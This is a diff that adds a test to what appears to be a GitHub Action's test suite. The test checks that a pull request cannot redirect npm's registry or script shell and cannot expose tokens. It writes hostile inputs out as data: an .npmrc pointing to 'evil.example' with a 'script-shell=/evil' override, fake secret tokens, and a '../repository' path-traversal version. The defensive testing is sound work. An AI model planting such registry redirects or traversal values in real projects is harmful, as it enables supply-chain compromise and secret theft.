@@ -114,6 +114,35 @@ test('a pull request gets one comment that describes its effect on prompts', { t
   }
 })
 
+test('a pull request chooses neither the registry nor the configuration of npm, and its package sees no token', async () => {
+  const dir = join(folder, 'repository')
+  const base = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: dir, encoding: 'utf8' }).trim()
+  for (const place of [dir, join(dir, 'replies')]) {
+    writeFileSync(join(place, '.npmrc'), 'registry=http://evil.example/\nscript-shell=/evil\n')
+  }
+  // Stands in for npx, and reports what npm would see.
+  const bin = join(folder, 'bin')
+  const log = join(folder, 'npx.log')
+  mkdirSync(bin)
+  writeFileSync(
+    join(bin, 'npx'),
+    `#!/bin/sh\n{ echo "arguments $*"; ls -A; npm config get registry; npm config get script-shell; env; } >> '${log}'\necho '{"results":[]}'\n`,
+    { mode: 0o755 },
+  )
+  const path = `${bin}:${process.env.PATH}`
+  const ran = await runAction(dir, base, {
+    ...{ QUIRE_COMMAND: '', PATH: path, GITHUB_TOKEN: 'secret-token', NODE_AUTH_TOKEN: 'secret-token' },
+    ...{ npm_config_registry: 'http://evil.example/', 'INPUT_FAIL-ON-TESTS': 'false', GITHUB_REPOSITORY: 'none' },
+  })
+  expect(ran.code).toBe(0)
+  const seen = readFileSync(log, 'utf8')
+  expect(seen.match(/^arguments --yes @quire\/cli@latest test --json --workspace/gm)).toHaveLength(2)
+  expect(seen.match(/^package\.json\nhttps:\S+\nnull$/gm)).toHaveLength(2)
+  expect(seen).not.toMatch(/evil|secret-token/)
+  const outside = await runAction(dir, base, { QUIRE_COMMAND: '', INPUT_VERSION: '../repository' })
+  expect(outside).toMatchObject({ code: 1, stdout: expect.stringContaining('is not a version') })
+}, 60_000)
+
 test('a pull request from a fork gets a summary instead of a comment', async () => {
   const dir = join(folder, 'repository')
   const base = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: dir, encoding: 'utf8' }).trim()
